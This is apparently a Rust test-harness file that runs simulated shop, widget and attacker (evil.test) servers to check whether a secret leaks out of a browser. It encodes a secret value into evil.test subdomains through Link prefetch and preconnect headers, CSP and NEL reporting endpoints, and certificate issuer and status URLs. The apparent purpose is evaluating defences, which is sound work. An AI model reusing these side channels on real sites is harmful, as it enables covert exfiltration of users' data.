//! The servers of the test network: the shop with the attacking page, and the attacker's servers.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::{Arc, Mutex};

use evaluation::tls::Authority;
use observer::Network;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_rustls::TlsAcceptor;

use crate::attacks::{NOBODYS_STREET, PLACES, PORT, STREET, hex};

/// The shop.
pub const SHOP: Ipv4Addr = Ipv4Addr::new(44, 128, 66, 1);
/// The frame of another site.
const WIDGET: Ipv4Addr = Ipv4Addr::new(44, 128, 66, 2);
/// The address of every name of the attacker.
const EVIL: Ipv4Addr = Ipv4Addr::new(44, 128, 66, 9);

/// The hosts with a certificate.
const HOSTS: [&str; 4] = ["shop.test", "widget.test", "evil.test", "*.evil.test"];

/// TLS servers, and all requests that they received.
#[derive(Clone)]
pub struct Sites {
    pub authority: Arc<Authority>,
    told: Arc<Mutex<Vec<Told>>>,
    /// Certificates without their issuer's, once the page asks for them.
    incomplete: Arc<Mutex<Option<TlsAcceptor>>>,
}

/// One request.
#[derive(Debug, Clone)]
pub struct Told {
    pub host: String,
    pub path: String,
    /// All of it.
    pub text: String,
}

impl Sites {
    /// Serves them, and lets the name servers know them.
    pub fn serve(network: &Network) -> Sites {
        let sites = Sites {
            authority: Arc::new(Authority::new().unwrap()),
            told: Arc::default(),
            incomplete: Arc::default(),
        };
        let names = network.dns();
        names.set("shop.test", SHOP);
        names.set("widget.test", WIDGET);
        for evil in ["evil.test", "*.evil.test"] {
            names.set(evil, EVIL);
        }
        for address in [SHOP, WIDGET, EVIL] {
            sites.listen(network, (address, 443).into());
        }
        sites
    }

    fn listen(&self, network: &Network, address: SocketAddr) {
        let whole = TlsAcceptor::from(self.authority.server_config(&HOSTS).unwrap());
        let listener = network.listen(address).unwrap();
        listener.set_nonblocking(true).unwrap();
        let listener = tokio::net::TcpListener::from_std(listener).unwrap();
        let sites = self.clone();
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let acceptor = sites.incomplete.lock().unwrap().clone().unwrap_or_else(|| whole.clone());
                let sites = sites.clone();
                tokio::spawn(async move {
                    if let Ok(stream) = acceptor.accept(stream).await {
                        sites.talk(stream).await;
                    }
                });
            }
        });
    }

    /// Answers one request after the other.
    async fn talk(&self, mut stream: impl AsyncReadExt + AsyncWriteExt + Unpin) {
        let mut heard = Vec::new();
        let mut buffer = [0; 4096];
        while let Ok(read @ 1..) = stream.read(&mut buffer).await {
            heard.extend_from_slice(&buffer[..read]);
            let text = String::from_utf8_lossy(&heard).into_owned();
            let Some((head, body)) = text.split_once("\r\n\r\n") else { continue };
            let header = |name: &str| {
                let lines = head.lines().filter_map(|line| line.split_once(':'));
                lines.filter(|(key, _)| key.eq_ignore_ascii_case(name)).map(|(_, value)| value.trim()).next()
            };
            if body.len() < header("content-length").and_then(|it| it.parse().ok()).unwrap_or(0) {
                continue;
            }
            let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
            let host = header("host").unwrap_or_default().to_owned();
            let answer = answer(&host, &path);
            self.told.lock().unwrap().push(Told { host, path: path.clone(), text: text.clone() });
            heard.clear();
            if let Some(known) = path.strip_prefix("/swap?") {
                self.swap(known);
            }
            // An open connection keeps its certificate, so a swap closes all connections.
            let closed = stream.write_all(answer.as_bytes()).await.is_err();
            if closed || self.incomplete.lock().unwrap().is_some() {
                break;
            }
        }
    }

    /// Serves certificates without their issuer's from now on. They name addresses with the street in them.
    fn swap(&self, known: &str) {
        let spelled = spelled(known);
        let place = |way: &str| format!("http://answer-{way}.{spelled}.evil.test/");
        let incomplete = self.authority.incomplete_config(&HOSTS, &place("issuer"), &place("status"));
        *self.incomplete.lock().unwrap() = Some(TlsAcceptor::from(incomplete.unwrap()));
    }

    /// The requests so far.
    pub fn told(&self) -> Vec<Told> {
        self.told.lock().unwrap().clone()
    }

    /// Clears the requests, and serves complete certificates again.
    pub fn forget(&self) {
        self.told.lock().unwrap().clear();
        *self.incomplete.lock().unwrap() = None;
    }

    /// The page's report after its last attempt: the number of attacks in each context.
    pub fn tried(&self) -> Option<String> {
        let told = self.told();
        told.iter().find_map(|it| it.path.strip_prefix("/tried?").map(str::to_owned))
    }
}

fn answer(host: &str, path: &str) -> String {
    let attack = include_str!("pages/attack.js");
    let places = format!("{PLACES:?}");
    let (kind, body) = match (host, path.split('?').next().unwrap_or_default()) {
        ("shop.test", "/order") => ("text/html", include_str!("pages/order.html").to_owned()),
        ("shop.test", "/page.js") => {
            let page = include_str!("pages/page.js");
            let page = page.replace("= PLACES", &format!("= {places}"));
            ("text/javascript", attack.to_owned() + &page.replace("PORT +", &format!("{PORT} +")))
        }
        ("shop.test" | "widget.test", "/frame") => (
            "text/html",
            format!("<!doctype html><body><script>{attack}{}</script>", include_str!("pages/frame.js")),
        ),
        ("shop.test", "/answer") => {
            ("text/html", "<!doctype html><style>p { color: red }</style><img src=/x><p>Thank you".to_owned())
        }
        ("shop.test", "/service.js") => {
            ("text/javascript", attack.to_owned() + include_str!("pages/frame.js"))
        }
        _ => ("text/html", "<!doctype html><h1>Thank you</h1>".to_owned()),
    };
    let more = path.strip_prefix("/answer?").map(heads).unwrap_or_default();
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}; charset=utf-8\r\nCache-Control: no-store\r\n{more}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// The headers that make a browser fetch and report, to addresses with the street in them.
fn heads(known: &str) -> String {
    let spelled = spelled(known);
    let place = |way: &str| format!("https://answer-{way}.{spelled}.evil.test/");
    let link = |rel: &str| format!("Link: <{}>; rel={rel}; as=image\r\n", place(rel));
    let links = ["dns-prefetch", "preconnect", "preload", "prefetch", "modulepreload"].map(link).concat();
    format!(
        "{links}Content-Security-Policy: img-src 'none'; report-uri {csp}\r\n\
         Reporting-Endpoints: default=\"{report}\"\r\n\
         Content-Security-Policy-Report-Only: style-src 'none'; report-to default\r\n\
         Report-To: {{\"group\":\"nel\",\"max_age\":86400,\"endpoints\":[{{\"url\":\"{nel}\"}}]}}\r\n\
         NEL: {{\"report_to\":\"nel\",\"max_age\":86400,\"success_fraction\":1.0,\"failure_fraction\":1.0}}\r\n",
        csp = place("csp"),
        report = place("report"),
        nel = place("nel"),
    )
}

/// The street that a server knows through another channel, in hexadecimal digits.
fn spelled(known: &str) -> String {
    hex(if known == "released" { STREET } else { NOBODYS_STREET })
}
